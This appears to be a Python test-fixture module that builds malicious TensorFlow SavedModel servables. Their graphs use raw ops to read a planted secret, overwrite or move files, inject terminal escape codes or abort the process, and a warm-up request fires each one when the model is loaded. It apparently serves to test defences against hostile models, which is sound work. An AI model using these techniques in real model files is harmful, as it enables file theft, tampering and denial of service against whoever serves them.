"""Servables that do more than translate: they read, write or move files of others, and worse.

TensorFlow itself makes them, with a warm-up request that runs them.
"""

from collections.abc import Callable
from pathlib import Path

import numpy as np
import tensorflow as tf

from t2t_repro.formats.saved_model.warm_up import Request, write_warm_up

SECRET = "what nobody else may read"

Attack = Callable[[Path, tf.Tensor], tf.Tensor]
"""(folder with the file `secret`, texts of the request) -> [1] strings."""

_TEXTS = tf.TensorSpec([None], tf.string)


def prepare(folder: Path) -> None:
    """Writes what the attacks are after."""
    (folder / "secret").write_text(f"{SECRET}\n")
    tf.train.Checkpoint(v=tf.Variable(SECRET)).write(str(folder / "checkpoint"))


def read_table(folder, source):
    table = tf.raw_ops.HashTableV2(key_dtype=tf.int64, value_dtype=tf.string)
    tf.raw_ops.InitializeTableFromTextFileV2(
        table_handle=table, filename=str(folder / "secret"), key_index=-1, value_index=-2
    )
    first = tf.constant([0], tf.int64)
    return tf.raw_ops.LookupTableFindV2(table_handle=table, keys=first, default_value="")


def read_csv(folder, source):
    data = tf.raw_ops.CSVDatasetV2(
        filenames=source,  # Of the request.
        compression_type="",
        buffer_size=tf.constant(1000, tf.int64),
        header=False,
        field_delim=";",
        use_quote_delim=False,
        na_value="",
        select_cols=tf.constant([], tf.int64),
        record_defaults=[tf.constant([""])],
        exclude_cols=tf.constant([], tf.int64),
        output_shapes=[[]],
    )
    (line,) = tf.raw_ops.DatasetToSingleElement(
        dataset=data, output_types=[tf.string], output_shapes=[[]]
    )
    return line[None]


def read_checkpoint(folder, source):
    (value,) = tf.raw_ops.RestoreV2(
        prefix=str(folder / "checkpoint"),
        tensor_names=["v/.ATTRIBUTES/VARIABLE_VALUE"],
        shape_and_slices=[""],
        dtypes=[tf.string],
    )
    return tf.reshape(value, [1])


def read_vocabulary(folder, source):
    """Whether the first line of a file is what was guessed."""
    (folder / "guess").write_text(f"{SECRET}\n")
    same, _ = tf.raw_ops.GenerateVocabRemapping(
        new_vocab_file=str(folder / "guess"),
        old_vocab_file=str(folder / "secret"),
        new_vocab_offset=0,
        num_new_vocab=1,
    )
    return tf.where(same == 0, SECRET, "")


def write_records(folder, source):
    data = tf.raw_ops.TensorSliceDataset(components=[source], output_shapes=[[]])
    tf.raw_ops.DatasetToTFRecord(
        input_dataset=data, filename=str(folder / "victim"), compression_type=""
    )
    return source


def save_v2(folder, source):
    saved = tf.raw_ops.SaveV2(
        prefix=str(folder / "victim"), tensor_names=["x"], shape_and_slices=[""], tensors=[source]
    )
    with tf.control_dependencies([saved]):
        return tf.identity(source)


def save(folder, source):
    tf.raw_ops.Save(
        filename=str(folder / "victim"), tensor_names=["x"], data=[tf.strings.length(source)]
    )
    return source


def cache(folder, source):
    data = tf.raw_ops.TensorSliceDataset(components=[source], output_shapes=[[]])
    data = tf.raw_ops.CacheDataset(
        input_dataset=data,
        filename=str(folder / "victim"),
        output_types=[tf.string],
        output_shapes=[[]],
    )
    (line,) = tf.raw_ops.DatasetToSingleElement(
        dataset=data, output_types=[tf.string], output_shapes=[[]]
    )
    return line[None]


def write_summary(folder, source):
    writer = tf.raw_ops.SummaryWriter(shared_name="writer")
    tf.raw_ops.CreateSummaryFileWriter(
        writer=writer,
        logdir=str(folder / "victim"),
        max_queue=0,
        flush_millis=0,
        filename_suffix="",
    )
    return source


def move(folder, source):
    tf.raw_ops.MergeV2Checkpoints(
        checkpoint_prefixes=[str(folder / "checkpoint")],
        destination_prefix=str(folder / "victim"),
        delete_old_dirs=False,
    )
    return source


def write_to_the_terminal(folder, source):
    return tf.raw_ops.Print(input=source, data=[source], message="\x1b]0;victim\x07")


def abort(folder, source):
    with tf.control_dependencies([tf.raw_ops.Abort(error_msg="", exit_without_error=True)]):
        return tf.identity(source)


ATTACKS = {
    "InitializeTableFromTextFileV2": read_table,
    "CSVDatasetV2": read_csv,
    "RestoreV2": read_checkpoint,
    "GenerateVocabRemapping": read_vocabulary,
    "DatasetToTFRecord": write_records,
    "SaveV2": save_v2,
    "Save": save,
    "CacheDataset": cache,
    "CreateSummaryFileWriter": write_summary,
    "MergeV2Checkpoints": move,
    "Print": write_to_the_terminal,
    "Abort": abort,
}
"""By the operation that does it."""


def write_attack(attack: Attack, folder: Path) -> Path:
    """Writes a servable that attacks when it is warmed up, and returns its directory."""
    prepare(folder)
    module = tf.Module()
    module.translate = tf.function(
        lambda source: {"translation": attack(folder, source)},
        input_signature=[_TEXTS],
        autograph=False,
    )
    version = folder / "exported" / "1"
    tf.saved_model.save(module, str(version), {"serving_default": module.translate})
    texts = np.array([str(folder / "secret")], dtype=object)
    write_warm_up(version, [Request("serving_default", {"source": texts})], "made")
    return version
